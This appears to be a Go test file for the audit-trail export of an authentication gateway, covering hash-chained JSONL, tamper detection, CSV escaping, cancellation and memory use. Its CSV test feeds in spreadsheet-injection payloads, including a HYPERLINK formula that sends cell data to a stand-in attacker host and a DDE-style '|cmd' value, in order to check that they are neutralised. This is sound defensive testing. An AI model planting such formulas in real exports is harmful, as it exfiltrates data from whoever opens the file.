package audit_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"promess/authgw/internal/audit"
	"promess/authgw/internal/store"
)

func export(t *testing.T, r audit.Reader, f store.AuditFilter, format audit.Format) string {
	t.Helper()
	var b bytes.Buffer
	var told int64
	n, err := audit.Export(t.Context(), r, f, format, &b, func(n int64) { told = n })
	if err != nil || n != told {
		t.Fatalf("Export = %d, %v; progress said %d", n, err, told)
	}
	return b.String()
}

// Each line of JSON has the body as it was hashed, so that whoever has the lines can verify them without us.
func TestExportJSONL(t *testing.T) {
	w := newSQLite(t)
	w.fill(5)
	prev := empty
	lines := strings.Split(strings.TrimSuffix(export(t, w.store(), store.AuditFilter{}, audit.JSONL), "\n"), "\n")
	if len(lines) != 5 {
		t.Fatalf("%d lines, want 5", len(lines))
	}
	for i, line := range lines {
		body, hash, ok := strings.Cut(line, `,"hash":"`)
		body, hash = body+"}", strings.TrimSuffix(hash, `"}`)
		if !ok || digest(t, prev, int64(i+1), body) != hash {
			t.Errorf("line %s does not follow %s", line, prev)
		}
		var e map[string]any
		if err := json.Unmarshal([]byte(line), &e); err != nil || e["hash"] != hash || e["kind"] != "session_opened" {
			t.Errorf("line %s: %v", line, err)
		}
		prev = hash
	}
	if got := export(t, w.store(), store.AuditFilter{Subject: "u-2"}, audit.JSONL); got != lines[1]+"\n" {
		t.Errorf("of one account: %s", got)
	}
}

// A body that somebody altered cannot pass for other records, nor break the lines around it.
func TestExportOfDamagedRecords(t *testing.T) {
	w := newSQLite(t)
	w.fill(3)
	w.exec(
		`UPDATE audit_events SET body = '{"seq":1}' || char(10) || '{"seq":9,"kind":"login_succeeded"}' WHERE seq = 1`,
		`UPDATE audit_events SET hash = '","kind":"x' WHERE seq = 2`,
		`UPDATE audit_events SET body = '' WHERE seq = 3`)
	lines := strings.Split(strings.TrimSuffix(export(t, w.store(), store.AuditFilter{}, audit.JSONL), "\n"), "\n")
	if len(lines) != 3 {
		t.Fatalf("%d lines, want 3: %q", len(lines), lines)
	}
	for i, line := range lines {
		var got struct {
			Seq     int
			Damaged bool
			Kind    string
		}
		if err := json.Unmarshal([]byte(line), &got); err != nil || got.Seq != i+1 || !got.Damaged || got.Kind != "" {
			t.Errorf("line %q: %+v, %v", line, got, err)
		}
	}
	rows, err := csv.NewReader(strings.NewReader(export(t, w.store(), store.AuditFilter{}, audit.CSV))).ReadAll()
	if err != nil || len(rows) != 4 || rows[3][0] != "3" || rows[3][5] != "u-3" {
		t.Errorf("rows = %q, %v", rows, err)
	}
}

// OWASP, CSV Injection: what begins as a formula does, in any column, is text to every spreadsheet.
func TestExportCSV(t *testing.T) {
	w := newSQLite(t)
	l := w.start(w.config(nil))
	for _, e := range []audit.Event{
		{Kind: audit.LoginRefused, Outcome: "refused", Reason: "revoked", Detail: `=HYPERLINK("http://evil.example/"&A1)`, Issuer: "+1", Source: "-2+3|cmd"},
		{Kind: audit.AdminAction, Actor: "@SUM(1)", Action: "\tx", Detail: "two\nlines, a comma and \"quotes\"", Service: "＝1", Client: "\r=1"}, // a bare \r has no place in CSV
		{Kind: audit.SessionEnded, Subject: "u-1", Browser: "Firefox 153, Linux", Detail: "plain = text"},
	} {
		if err := l.Record(e); err != nil {
			t.Fatal(err)
		}
	}
	text := export(t, w.store(), store.AuditFilter{}, audit.CSV)
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	records := w.records()
	want := [][]string{
		{"seq", "time", "kind", "outcome", "reason", "subject", "session", "actor", "action", "method", "factor", "acr", "source",
			"browser", "fingerprint", "issuer", "service", "client", "support", "detail", "hash"},
		{"1", "2026-03-02T12:00:00.123456789Z", "login_refused", "refused", "revoked", "", "", "", "", "", "", "", "'-2+3|cmd",
			"", "", "'+1", "", "", "", `'=HYPERLINK("http://evil.example/"&A1)`, records[0].Hash},
		{"2", "2026-03-02T12:00:01.123456789Z", "admin_action", "", "", "", "", "'@SUM(1)", "'\tx", "", "", "", "",
			"", "", "", "'＝1", "'=1", "", "two\nlines, a comma and \"quotes\"", records[1].Hash},
		{"3", "2026-03-02T12:00:02.123456789Z", "session_ended", "", "", "u-1", "", "", "", "", "", "", "",
			"Firefox 153, Linux", "", "", "", "", "", "plain = text", records[2].Hash},
	}
	if diff := cmp.Diff(want, rows); diff != "" {
		t.Errorf("rows (-want +got):\n%s", diff)
	}
	if got := export(t, newSQLite(t).store(), store.AuditFilter{}, audit.CSV); strings.Count(got, "\r\n") != 1 {
		t.Errorf("of an empty trail: %q, want the header", got)
	}
}

// Every field of an event has a column: one that is added to the type must not be missing in what an auditor gets.
func TestExportHasEveryField(t *testing.T) {
	w := newSQLite(t)
	rows, err := csv.NewReader(strings.NewReader(export(t, w.store(), store.AuditFilter{}, audit.CSV))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(append(append([]string{"seq"}, keys()...), "hash"), rows[0]); diff != "" {
		t.Errorf("columns (-want +got):\n%s", diff)
	}
}

func TestExportStops(t *testing.T) {
	w := newSQLite(t)
	w.fill(3)
	for _, format := range []audit.Format{audit.JSONL, audit.CSV} {
		if _, err := audit.Export(t.Context(), w.store(), store.AuditFilter{}, format, writer(func([]byte) (int, error) { return 0, errDisk }), nil); !errors.Is(err, errDisk) {
			t.Errorf("%s to a full disk: %v", format, err)
		}
		ctx, cancel := context.WithCancel(t.Context())
		n, err := audit.Export(ctx, w.store(), store.AuditFilter{}, format, io.Discard, func(int64) { cancel() })
		if n != 1 || !errors.Is(err, context.Canceled) {
			t.Errorf("%s that is interrupted: %d, %v", format, n, err)
		}
	}
}

// BenchmarkExport reads a trail of a million records, in each form and to verify it, and fails when that takes more than 32 MB of heap.
func BenchmarkExport(b *testing.B) {
	const records, bound = 1_000_000, 32 << 20
	w := newSQLite(b)
	long(b, w.store(), records)
	s := w.store()
	for name, read := range map[string]func(progress func(int64)) error{
		"jsonl": func(p func(int64)) error {
			_, err := audit.Export(b.Context(), s, store.AuditFilter{}, audit.JSONL, io.Discard, p)
			return err
		},
		"csv": func(p func(int64)) error {
			_, err := audit.Export(b.Context(), s, store.AuditFilter{}, audit.CSV, io.Discard, p)
			return err
		},
		"verify": func(p func(int64)) error {
			var n int64
			report, err := audit.Verify(b.Context(), reader(func(ctx context.Context, f store.AuditFilter, each func(store.AuditRecord) error) error {
				return s.AuditRecords(ctx, f, func(r store.AuditRecord) error { n++; p(n); return each(r) })
			}), "", func(audit.Finding) {})
			if err == nil && (report.Findings != 0 || report.Records != records) {
				err = fmt.Errorf("verify = %+v", report)
			}
			return err
		},
	} {
		b.Run(name, func(b *testing.B) {
			runtime.GC()
			var m runtime.MemStats
			runtime.ReadMemStats(&m)
			before, most := m.HeapInuse, uint64(0)
			for b.Loop() {
				if err := read(func(n int64) {
					if n%50_000 == 0 {
						runtime.ReadMemStats(&m)
						most = max(most, m.HeapInuse)
					}
				}); err != nil {
					b.Fatal(err)
				}
			}
			grown := max(most, before) - before
			if grown > bound {
				b.Errorf("the heap grew by %d bytes, want at most %d", grown, bound)
			}
			b.ReportMetric(float64(grown)/(1<<20), "MB-heap")
			b.ReportMetric(float64(records)*float64(b.N)/b.Elapsed().Seconds(), "records/s")
		})
	}
}

// long writes a trail of n records.
func long(b testing.TB, s *store.Store, n int64) {
	b.Helper()
	batch := min(n, 10_000)
	for range n / batch {
		if err := s.AppendAudit(b.Context(), func(last store.AuditRecord) ([]store.AuditRecord, error) {
			prev := last.Hash
			if last.Seq == 0 {
				prev = empty
			}
			var all []store.AuditRecord
			for i := range batch {
				r := store.AuditRecord{Seq: last.Seq + i + 1, At: noon.Add(time.Duration(last.Seq+i) * time.Second), Kind: "login_succeeded", Subject: "u-1"}
				r.Body = fmt.Sprintf(`{"seq":%d,"prev":"%s","time":"%s","kind":"login_succeeded","outcome":"success","subject":"u-1","method":"card","source":"192.0.2.1"}`,
					r.Seq, prev, r.At.Format(time.RFC3339Nano))
				r.Hash = digest(b, prev, r.Seq, r.Body)
				prev = r.Hash
				all = append(all, r)
			}
			return all, nil
		}); err != nil {
			b.Fatal(err)
		}
	}
}
